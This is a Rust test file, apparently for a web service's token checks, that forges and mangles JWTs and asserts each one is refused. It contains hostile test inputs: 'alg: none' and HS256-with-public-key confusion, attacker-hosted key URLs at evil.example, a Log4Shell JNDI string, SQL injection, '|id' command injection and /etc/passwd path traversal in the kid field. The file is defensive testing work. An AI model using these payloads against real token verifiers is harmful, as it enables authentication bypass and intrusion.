//! Forged and bent tokens: their headers, keys, signatures and spelling. What they say and how they come: `threats_claims.rs`.

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, Ed25519KeyPair, KeyPair};
use aws_lc_rs::{hmac, signature};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use zvit_tests::{Answer, Client, Database, Server, Value, both, json, raw};

/// Whoever forges with the service's own key: what is refused then is refused by the content alone.
pub(crate) struct Forge<'s> {
    server: &'s Server,
    key: Ed25519KeyPair,
    pub(crate) kid: String,
    pub(crate) token: String,
    pub(crate) header: Value,
    pub(crate) claims: Value,
}

impl<'s> Forge<'s> {
    pub(crate) fn at(server: &'s Server) -> Self {
        let query = match server.store.database {
            Database::Sqlite => "SELECT kid || ' ' || hex(pkcs8) AS line FROM signing_keys WHERE state = 'active'",
            Database::Postgres => {
                "SELECT kid || ' ' || encode(pkcs8, 'hex') AS line FROM signing_keys WHERE state = 'active'"
            }
        };
        let lines = server.store.lines(query);
        let (kid, hex) = lines.first().and_then(|line| line.split_once(' ')).expect("an active key");
        let bytes: Vec<u8> = (0..hex.len() / 2)
            .map(|at| u8::from_str_radix(&hex[2 * at..2 * at + 2], 16).expect("hexadecimal"))
            .collect();
        let token = server.hospital().token().expect("a token");
        let part = |number: usize| {
            let part = token.split('.').nth(number).expect("three parts");
            serde_json::from_slice::<Value>(&URL_SAFE_NO_PAD.decode(part).expect("base64url")).expect("JSON")
        };
        let (header, claims) = (part(0), part(1));
        assert_eq!(header["kid"], kid);
        let key = Ed25519KeyPair::from_pkcs8_maybe_unchecked(&bytes).expect("a key");
        Self { server, key, kid: kid.to_owned(), token, header, claims }
    }

    /// Truly signed, whatever it says.
    pub(crate) fn signed(&self, header: &str, claims: &str) -> String {
        let text = unsigned(header, claims);
        let signature = URL_SAFE_NO_PAD.encode(self.key.sign(text.as_bytes()).as_ref());
        format!("{text}.{signature}")
    }

    fn with_header(&self, name: &str, to: Value) -> String {
        let mut header = self.header.clone();
        header[name] = to;
        self.signed(&header.to_string(), &self.claims.to_string())
    }

    pub(crate) fn with_claim(&self, name: &str, to: Value) -> String {
        let mut claims = self.claims.clone();
        claims[name] = to;
        self.signed(&self.header.to_string(), &claims.to_string())
    }

    /// As it was made at this second.
    pub(crate) fn made_at(&self, made: i64) -> String {
        let mut claims = self.claims.clone();
        for (name, at) in [("iat", made), ("nbf", made), ("exp", made + 600)] {
            claims[name] = json!(at);
        }
        self.signed(&self.header.to_string(), &claims.to_string())
    }

    #[track_caller]
    fn taken(&self, token: &str) {
        Client::with_token(&self.server.base, token).get("/v1/me").expect(200);
    }

    #[track_caller]
    pub(crate) fn refused(&self, token: &str, what: &str) {
        let answer = Client::with_token(&self.server.base, token).get("/v1/me").send();
        assert_eq!(answer.status, 401, "{what}: {answer}");
        check_refusal(answer, token);
    }
}

/// The refusal is whole, asks for a Bearer token, and repeats nothing of what was shown.
#[track_caller]
pub(crate) fn check_refusal(answer: Answer, token: &str) -> Answer {
    let code = answer.string("/code");
    assert!(code.starts_with("token_"), "{answer}");
    assert!(answer.header("www-authenticate").starts_with("Bearer"), "{answer}");
    for part in token.split('.').filter(|part| part.len() > 20) {
        assert!(!answer.text().contains(part), "the token comes back\n{answer}");
        let headers = answer.headers.values().map(|value| String::from_utf8_lossy(value.as_bytes()));
        assert!(headers.into_iter().all(|value| !value.contains(part)), "the token comes back\n{answer}");
    }
    answer.problem(401, &code)
}

fn unsigned(header: &str, claims: &str) -> String {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims))
}

both!(no_other_algorithm_is_let_in_under_any_spelling, |server| {
    let forge = Forge::at(server);
    forge.taken(&forge.token);
    for alg in
        ["none", "None", "NONE", "nOnE", "", " EdDSA", "eddsa", "EDDSA", "Ed25519", "ES256", "RS256", "PS256", "HS256"]
    {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        for token in [format!("{text}."), text.clone(), forge.with_header("alg", json!(alg))] {
            forge.refused(&token, &format!("alg {alg}"));
        }
    }
    for alg in [json!(["EdDSA"]), json!({"EdDSA": 1}), json!(0), json!(true), Value::Null] {
        forge.refused(&forge.with_header("alg", alg.clone()), &format!("alg {alg}"));
    }
});

both!(the_public_key_is_no_secret_to_sign_with, |server| {
    let forge = Forge::at(server);
    let public = forge.key.public_key().as_ref().to_vec();
    let x = URL_SAFE_NO_PAD.encode(&public);
    // SubjectPublicKeyInfo of RFC 8410.
    let der = [b"\x30\x2a\x30\x05\x06\x03\x2b\x65\x70\x03\x21\x00".as_slice(), &public].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&der));
    let jwks = server.anyone().get("/.well-known/jwks.json").expect(200);
    let secrets: Vec<Vec<u8>> = vec![
        public,
        x.into_bytes(),
        der,
        pem.trim_end().as_bytes().to_vec(),
        pem.into_bytes(),
        jwks.at("/keys/0").to_string().into_bytes(),
        jwks.bytes.clone(),
        forge.kid.clone().into_bytes(),
        Vec::new(),
    ];
    for (alg, algorithm) in [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
        ("EdDSA", hmac::HMAC_SHA512),
    ] {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        for secret in &secrets {
            let tag = hmac::sign(&hmac::Key::new(algorithm, secret), text.as_bytes());
            forge.refused(&format!("{text}.{}", URL_SAFE_NO_PAD.encode(tag)), alg);
        }
    }
});

both!(no_key_that_a_token_brings_along_is_used, |server| {
    let forge = Forge::at(server);
    let foreign = Ed25519KeyPair::generate().expect("a key");
    let x = URL_SAFE_NO_PAD.encode(foreign.public_key().as_ref());
    let own = |kid: &str| json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": kid, "alg": "EdDSA", "use": "sig"});
    let sign = |header: &Value| {
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        format!("{text}.{}", URL_SAFE_NO_PAD.encode(foreign.sign(text.as_bytes()).as_ref()))
    };
    for (name, value) in [
        ("jwk", own(&forge.kid)),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!(format!("{}/.well-known/jwks.json", server.base))),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!([STANDARD.encode(foreign.public_key().as_ref())])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("crit", json!([])),
        ("crit", json!(["kid"])),
        ("b64", json!(false)),
        ("cty", json!("JWT")),
        ("enc", json!("A256GCM")),
        ("zip", json!("DEF")),
        ("p2c", json!(2_000_000_000)),
        ("epk", own("x")),
    ] {
        let mut header = forge.header.clone();
        header[name] = value;
        forge.refused(&sign(&header), name);
        // Not even with a true signature: what isn't understood isn't passed over.
        forge.refused(&forge.signed(&header.to_string(), &forge.claims.to_string()), name);
    }
    for kid in [
        "../../../../dev/null",
        "/etc/passwd",
        "file:///proc/self/environ",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' --",
        "",
        " ",
        "\0",
        "|id",
        "${jndi:ldap://evil.example/a}",
        &forge.kid.to_uppercase(),
        &format!("{} ", forge.kid),
        &format!("{}\0", forge.kid),
        &"k".repeat(2_000),
    ] {
        let mut header = forge.header.clone();
        header["kid"] = json!(kid);
        forge.refused(&sign(&header), "kid");
        forge.refused(&forge.signed(&header.to_string(), &forge.claims.to_string()), "kid");
    }
    for kid in [json!(0), json!([forge.kid]), json!({"kid": forge.kid}), Value::Null, json!(true)] {
        forge.refused(&forge.with_header("kid", kid), "kid");
    }
    for typ in [
        json!("at+JWT"),
        json!("application/at+jwt"),
        json!(["at+jwt"]),
        json!("at+jwt "),
        json!(""),
        json!("id+jwt"),
        json!("logout+jwt"),
    ] {
        forge.refused(&forge.with_header("typ", typ), "typ");
    }
});

both!(a_signature_of_another_kind_of_key_is_none, |server| {
    let forge = Forge::at(server);
    let random = SystemRandom::new();
    let document = EcdsaKeyPair::generate_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &random).expect("a key");
    let pair = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, document.as_ref()).expect("a key");
    for alg in ["ES256", "EdDSA"] {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        let signature = pair.sign(&random, text.as_bytes()).expect("a signature");
        forge.refused(&format!("{text}.{}", URL_SAFE_NO_PAD.encode(signature.as_ref())), alg);
    }
    let mut header = forge.header.clone();
    header["alg"] = json!("RS256");
    forge.refused(
        &format!("{}.{}", unsigned(&header.to_string(), &forge.claims.to_string()), URL_SAFE_NO_PAD.encode([7; 256])),
        "RS256",
    );
});

/// The order of the base point of Ed25519, little-endian (RFC 8032, section 5.1).
const ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

both!(a_signature_has_one_form, |server| {
    let forge = Forge::at(server);
    let (text, encoded) = forge.token.rsplit_once('.').expect("three parts");
    let bytes = URL_SAFE_NO_PAD.decode(encoded).expect("base64url");
    assert_eq!(bytes.len(), 64);
    let refused =
        |signature: &[u8], what: &str| forge.refused(&format!("{text}.{}", URL_SAFE_NO_PAD.encode(signature)), what);
    let mut larger = bytes.clone();
    let mut carry = 0_u16;
    for (place, add) in larger[32..].iter_mut().zip(ORDER) {
        let sum = u16::from(*place) + u16::from(add) + carry;
        (*place, carry) = (sum.to_le_bytes()[0], sum >> 8);
    }
    assert_eq!(carry, 0, "S + L fits");
    refused(&larger, "S + L");
    for length in [0, 1, 32, 63] {
        refused(&bytes[..length], "truncated");
    }
    refused(&[bytes.as_slice(), &[0]].concat(), "a byte too many");
    refused(&[bytes.as_slice(), &bytes].concat(), "twice");
    refused(&[0; 64], "nothing but zeros");
    // The neutral element as R, with S = 0.
    let mut neutral = [0; 64];
    neutral[0] = 1;
    refused(&neutral, "the neutral element");
    let mut swapped = bytes[32..].to_vec();
    swapped.extend_from_slice(&bytes[..32]);
    refused(&swapped, "S before R");
    for at in [0, 31, 32, 63] {
        let mut flipped = bytes.clone();
        flipped[at] ^= 1;
        refused(&flipped, "a bit flipped");
    }
    // The signature by the same key of something else.
    let other = signature_of(&forge.key, b"something else");
    refused(&other, "of another text");
});

fn signature_of(key: &Ed25519KeyPair, text: &[u8]) -> Vec<u8> {
    let signature: signature::Signature = key.sign(text);
    signature.as_ref().to_vec()
}

both!(a_token_is_written_in_one_way, |server| {
    let forge = Forge::at(server);
    let parts: Vec<&str> = forge.token.split('.').collect();
    let [header, claims, signature] = parts[..] else { panic!("three parts") };
    let decode = |part: &str| URL_SAFE_NO_PAD.decode(part).expect("base64url");
    // Of 64 bytes the last character holds four bits that mean nothing: other values would be other spellings.
    let last = signature.chars().last().expect("a character");
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let place = alphabet.find(last).expect("base64url");
    let next = &alphabet[place + 1..place + 2];
    let bent = format!("{}{next}", &signature[..signature.len() - 1]);
    let standard = STANDARD_NO_PAD.encode(decode(signature));
    let mut odd = vec![
        format!("{header}.{claims}.{bent}"),
        format!("{header}.{claims}.{signature}="),
        format!("{header}.{claims}.{signature}=="),
        format!("{header}.{claims}.{}", URL_SAFE.encode(decode(signature))),
        format!("{}.{claims}.{signature}", URL_SAFE.encode(forge.header.to_string() + " ")),
        format!("{header}=.{claims}.{signature}"),
        format!("{header}.{claims}.{signature}."),
        format!(".{header}.{claims}.{signature}"),
        format!("{header}.{claims}.{signature}.{signature}"),
        format!("{header}.{claims}.{signature}.{signature}.{signature}"),
        format!("{header}..{signature}"),
        format!(".{claims}.{signature}"),
        format!("{header}.{claims}"),
        format!("{claims}.{header}.{signature}"),
        format!("{header}. {claims}.{signature}"),
        format!("{header}.{claims}.{signature} {signature}"),
        format!("{header}.{claims}.{signature},{signature}"),
        format!("\"{}\"", forge.token),
        format!("{}%00", forge.token),
        forge.token.to_uppercase(),
        forge.token.to_lowercase(),
        forge.token.replace('.', ","),
        forge.token.repeat(2),
        format!("{}.", "A".repeat(200_000)),
        ".".repeat(50_000),
    ];
    if standard != signature {
        odd.push(format!("{header}.{claims}.{standard}"));
    }
    for token in &odd {
        let authorization = format!("Bearer {token}");
        let headers = [("Authorization", authorization.as_str())];
        let answer = raw::exchange(&server.base, &raw::request("GET", "/v1/me", &headers, b""));
        // What is longer than a header may be doesn't get as far as a token.
        assert!([400, 401, 431].contains(&answer.status), "{token:.200}: {answer}");
        assert!(!answer.text().contains(signature), "the token comes back\n{answer}");
    }
    // A token within a token, and one whose parts are lists.
    forge.refused(&forge.signed(&forge.header.to_string(), &json!(forge.token).to_string()), "nested");
    forge.refused(&forge.signed(&forge.header.to_string(), "[]"), "a list");
    forge.refused(&forge.signed("[]", &forge.claims.to_string()), "a list");
    forge.refused(&forge.signed("", ""), "nothing");
    forge.refused(&forge.signed(&format!("\u{feff}{}", forge.header), &forge.claims.to_string()), "a mark");
    forge.refused(&forge.signed(&format!("{} x", forge.header), &forge.claims.to_string()), "something behind");
    forge.refused(&forge.signed(&forge.header.to_string(), &format!("{} {}", forge.claims, forge.claims)), "two");
});
